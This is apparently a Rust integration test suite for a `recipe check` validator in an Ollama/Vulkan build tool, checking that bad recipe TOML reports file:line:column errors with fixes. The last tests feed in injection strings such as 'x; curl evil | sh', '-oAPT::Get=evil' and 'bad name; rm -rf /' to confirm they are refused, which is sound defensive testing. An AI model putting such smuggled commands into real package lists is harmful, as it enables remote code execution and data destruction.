//! `recipe check`: the shipped templates pass; every bad input names file:line:column,
//! says how to fix it and exits 2.

use crate::support::Scratch;

use crate::support::PINNED_COMMIT as COMMIT;

fn good(extra: &str) -> String {
    format!("extends = \"era-4\"\nera = \"4\"\n\n[ollama]\ntag = \"v0.24.0\"\ncommit = \"{COMMIT}\"\n{extra}")
}

/// Writes `text` as r.toml, checks it, and expects exit 2 with `loc` and every needle.
#[track_caller]
fn bad(s: &Scratch, text: &str, loc: &str, needles: &[&str]) {
    let file = s.file("r.toml", text);
    let run = s.run(&["recipe", "check", file.to_str().unwrap()]);
    let mut all = vec![loc];
    all.extend_from_slice(needles);
    run.fails(2, &all);
    assert!(
        run.stderr.contains("help:"),
        "every error carries a fix:\n{}",
        run.stderr
    );
}

#[test]
fn shipped_templates_pass() {
    let s = Scratch::new();
    let files: Vec<String> = ["era-1a", "era-1b", "era-4", "era-5"]
        .iter()
        .map(|t| {
            s.project()
                .join(format!("recipes/{t}.toml"))
                .display()
                .to_string()
        })
        .collect();
    let mut args = vec!["recipe", "check"];
    args.extend(files.iter().map(String::as_str));
    let run = s.run(&args);
    run.ok();
    assert_eq!(
        run.stdout.lines().filter(|l| l.starts_with("ok: ")).count(),
        4,
        "{}",
        run.stdout
    );
}

#[test]
fn a_good_recipe_passes_and_resolves_over_its_template() {
    let s = Scratch::new();
    let f = s.file(
        "r.toml",
        &good("\n[build]\ngo_flags = [\"-v\"]\nenv = { EXTRA = \"1\" }\n"),
    );
    s.run(&["recipe", "check", f.to_str().unwrap()]).ok();
    let j = s.run(&["recipe", "show", f.to_str().unwrap()]).ok().json();
    assert_eq!(j["era"], "4");
    assert_eq!(
        j["build"]["presets"],
        serde_json::json!(["CPU", "Vulkan"]),
        "inherited"
    );
    assert_eq!(
        j["build"]["go_flags"],
        serde_json::json!(["-v"]),
        "lists are replaced"
    );
    assert_eq!(j["build"]["env"]["EXTRA"], "1");
    assert_eq!(j["image"]["env"]["OLLAMA_VULKAN"], "1", "maps merge");
}

#[test]
fn malformed_toml() {
    bad(
        &Scratch::new(),
        "extends = \"era-4\"\n[ollama\ntag = 1\n",
        "r.toml:2:8",
        &["fix the TOML syntax"],
    );
}

#[test]
fn unknown_key() {
    let s = Scratch::new();
    bad(
        &s,
        &good("flavour = \"x\"\n"),
        "r.toml:7:1",
        &["unknown field `flavour`"],
    );
    bad(
        &s,
        &good("[build]\npreset = [\"CPU\"]\n"),
        "r.toml:8:1",
        &["unknown field `preset`", "presets"],
    );
}

#[test]
fn wrong_type() {
    bad(
        &Scratch::new(),
        &good("[build]\ngo_flags = \"-trimpath\"\n"),
        "r.toml:8:12",
        &["invalid type: string", "expected a sequence"],
    );
}

#[test]
fn unknown_era_label() {
    bad(
        &Scratch::new(),
        "extends = \"era-4\"\nera = \"6\"\n",
        "r.toml:2:7",
        &["unknown era `6`", "1a, 1b"],
    );
}

#[test]
fn commit_that_is_not_40_hex() {
    let s = Scratch::new();
    let text = good("").replace(COMMIT, "c28ddc0a7b27");
    bad(
        &s,
        &text,
        "r.toml:6:10",
        &["`c28ddc0a7b27` is not a commit id", "40 lowercase hex"],
    );
    let text = good("\n[llamacpp]\ncommit = \"zz\"\n");
    bad(&s, &text, "r.toml:9:10", &["`zz` is not a commit id"]);
}

#[test]
fn missing_template() {
    bad(
        &Scratch::new(),
        &good("").replace("era-4", "era-9"),
        "r.toml:1:11",
        &[
            "template `era-9` not found",
            "era-1a, era-1b, era-2, era-3, era-4, era-5",
        ],
    );
}

#[test]
fn missing_recipe_file() {
    let s = Scratch::new();
    s.run(&["recipe", "check", "nope.toml"])
        .fails(2, &["nope.toml: cannot read the recipe"]);
}

#[test]
fn tag_outside_the_template_range() {
    let s = Scratch::new();
    bad(
        &s,
        &good("").replace("v0.24.0", "v0.5.8"),
        "r.toml:5:7",
        &[
            "tag v0.5.8 is outside the range",
            "v0.12.6-rc0–v0.24.0",
            "recipe new --ollama v0.5.8",
        ],
    );
}

#[test]
fn tag_that_is_not_a_version() {
    bad(
        &Scratch::new(),
        &good("").replace("v0.24.0", "latest"),
        "r.toml:5:7",
        &["`latest` is not a release tag"],
    );
}

#[test]
fn era_contradicting_the_template() {
    bad(
        &Scratch::new(),
        &good("").replace("era = \"4\"", "era = \"5\""),
        "r.toml:2:7",
        &["era 5 contradicts the template's era 4"],
    );
}

#[test]
fn recipe_that_pins_nothing() {
    bad(
        &Scratch::new(),
        "extends = \"era-4\"\n",
        "r.toml:1:1",
        &["must pin [ollama] tag and commit", "recipe new"],
    );
}

#[test]
fn recipe_without_template_or_extends() {
    bad(
        &Scratch::new(),
        "era = \"4\"\n[ollama]\ntag = \"v0.24.0\"\n",
        "r.toml:1:1",
        &["neither extends an era template nor is one"],
    );
}

#[test]
fn wrong_llama_cpp_source_for_the_era() {
    bad(
        &Scratch::new(),
        &good("\n[llamacpp]\nsource = \"submodule\"\n"),
        "r.toml:9:10",
        &["era 4 places llama.cpp as `vendored`"],
    );
}

#[test]
fn unknown_variant() {
    bad(
        &Scratch::new(),
        &good("\n[llamacpp]\nsource = \"git\"\n"),
        "r.toml:9:10",
        &["unknown variant `git`", "fetch-content"],
    );
}

#[test]
fn series_hash_mismatch_and_edited_patch() {
    let s = Scratch::new();
    let patch = crate::support::patch_text(
        "a",
        "Pending",
        "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n",
    );
    let pin = s.series("demo", &[("0001-a.patch", &patch)]);
    let series = |sha: &str| {
        good(&format!(
            "\n[[series]]\nname = \"demo\"\nrepo = \"ollama\"\nsha256 = \"{sha}\"\n"
        ))
    };
    let f = s.file("r.toml", &series(&pin));
    s.run(&["recipe", "check", f.to_str().unwrap()]).ok();
    // Wrong pin: the fix shows the right one.
    let wrong = "0".repeat(64);
    bad(
        &s,
        &series(&wrong),
        "r.toml:11:10",
        &[
            "series `demo` hash mismatch",
            &format!("sha256 = \"{pin}\""),
        ],
    );
    // A patch edited after pinning, SHA256SUMS not refreshed.
    std::fs::write(s.project().join("patches/demo/0001-a.patch"), "diff b\n").unwrap();
    bad(
        &s,
        &series(&pin),
        "r.toml:9:8",
        &[
            "series `demo` is broken",
            "0001-a.patch",
            "edited after the series was pinned",
        ],
    );
}

#[test]
fn series_directory_missing() {
    let s = Scratch::new();
    let text = good(&format!(
        "\n[[series]]\nname = \"ghost\"\nrepo = \"ollama\"\nsha256 = \"{}\"\n",
        "0".repeat(64)
    ));
    bad(
        &s,
        &text,
        "r.toml:9:8",
        &["series `ghost` not found", "patches/ghost does not exist"],
    );
}

#[test]
fn series_for_other_tags_are_not_checked() {
    let s = Scratch::new();
    let text = good(&format!(
        "\n[[series]]\nname = \"ghost\"\nrepo = \"ollama\"\nsha256 = \"{}\"\ntags = {{ until = \"v0.2.0\" }}\n",
        "0".repeat(64)
    ));
    let f = s.file("r.toml", &text);
    let run = s.run(&["recipe", "check", f.to_str().unwrap()]);
    run.ok();
    assert!(run.stdout.contains("0 series"), "{}", run.stdout);
}

#[test]
fn template_must_not_pin_a_tag() {
    let s = Scratch::new();
    let t = std::fs::read_to_string(s.project().join("recipes/era-4.toml")).unwrap();
    bad(
        &s,
        &t.replace("[ollama]\n", "[ollama]\ntag = \"v0.24.0\"\n"),
        "r.toml:",
        &["an era template must not pin an Ollama tag"],
    );
}

#[test]
fn template_with_empty_range() {
    let s = Scratch::new();
    let t = std::fs::read_to_string(s.project().join("recipes/era-4.toml")).unwrap();
    let t = t.replace(
        "tags = { from = \"v0.12.6-rc0\", to = \"v0.24.0\" }",
        "tags = { from = \"v0.24.0\", until = \"v0.12.6\" }",
    );
    bad(&s, &t, "r.toml:", &["empty tag range"]);
}

#[test]
fn several_errors_are_reported_in_one_run() {
    let s = Scratch::new();
    let text = good("").replace(COMMIT, "abc").replace("v0.24.0", "v0.1.0");
    let f = s.file("r.toml", &text);
    let run = s.run(&["recipe", "check", f.to_str().unwrap(), "--json"]);
    assert_eq!(run.code, 2);
    let j = run.json();
    let diags = j[0]["diagnostics"].as_array().unwrap();
    assert_eq!(diags.len(), 2, "{j:#}");
    assert!(diags
        .iter()
        .all(|d| d["line"].as_u64().unwrap() > 0 && !d["help"].as_str().unwrap().is_empty()));
}

#[test]
fn bad_mirror_arguments() {
    let s = Scratch::new();
    s.run(&["era", "v0.24.0", "--mirror", "ollama"])
        .fails(2, &["expected NAME=PATH"]);
    s.run(&["era", "v0.24.0", "--mirror", "gcc=/tmp"])
        .fails(2, &["expected NAME=PATH with NAME `ollama` or `llama.cpp`"]);
    s.run(&["era", "v0.24.0", "--mirror", "ollama=/does/not/exist"])
        .fails(2, &["mirror ollama=/does/not/exist", "No such file"]);
    let not_git = s.file("plain/file.txt", "x");
    let dir = not_git.parent().unwrap().display().to_string();
    s.run(&["era", "v0.24.0", "--mirror", &format!("ollama={dir}")])
        .fails(2, &["not a git repository"]);
}

#[test]
fn project_without_recipes() {
    let s = Scratch::new();
    let empty = s.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    s.run(&[
        "--project",
        empty.to_str().unwrap(),
        "recipe",
        "check",
        "x.toml",
    ])
    .fails(2, &["has no recipes/ directory"]);
}

#[test]
fn completions_are_generated() {
    let run = Scratch::new().run(&["completions", "bash"]);
    run.ok();
    assert!(
        run.stdout.contains("ollama-vulkan") && run.stdout.contains("recipe"),
        "{}",
        &run.stdout[..200]
    );
}

#[test]
fn package_lists_come_from_the_shared_base_and_extras_add_to_them() {
    let s = Scratch::new();
    let f = s.file(
        "r.toml",
        &good("\n[build]\nbuilder_packages_extra = [\"libssl-dev\", \"git\"]\n\n[image]\nruntime_packages_extra = [\"vulkan-tools\"]\n"),
    );
    let j = s.run(&["recipe", "show", f.to_str().unwrap()]).ok().json();
    let base = std::fs::read_to_string(s.project().join("recipes/base/packages.toml")).unwrap();
    let builder: Vec<&str> = j["build"]["builder_packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    // Every base package, then the extra once (git is already there).
    assert!(
        builder.contains(&"glslc") && base.contains("\"glslc\""),
        "{builder:?}"
    );
    assert_eq!(builder.last(), Some(&"libssl-dev"), "{builder:?}");
    assert_eq!(builder.iter().filter(|p| **p == "git").count(), 1);
    assert_eq!(
        j["image"]["runtime_packages"]
            .as_array()
            .unwrap()
            .last()
            .unwrap(),
        "vulkan-tools"
    );
}

#[test]
fn a_hostile_extra_package_is_refused() {
    let s = Scratch::new();
    bad(
        &s,
        &good("\n[build]\nbuilder_packages_extra = [\"ok\", \"x; curl evil | sh\"]\n"),
        "r.toml",
        &["builder_packages", "x; curl evil | sh"],
    );
    bad(
        &s,
        &good("\n[image]\nruntime_packages_extra = [\"-oAPT::Get=evil\"]\n"),
        "r.toml",
        &["runtime_packages", "-oAPT::Get=evil"],
    );
}

#[test]
fn a_broken_shared_package_list_names_its_file() {
    let s = Scratch::new();
    std::fs::write(
        s.project().join("recipes/base/packages.toml"),
        "builder = [\"ok\", \"bad name; rm -rf /\"]\nruntime = []\n",
    )
    .unwrap();
    let f = s.file("r.toml", &good(""));
    s.run(&["recipe", "check", f.to_str().unwrap()])
        .fails(2, &["base/packages.toml", "bad name", "help:"]);
}
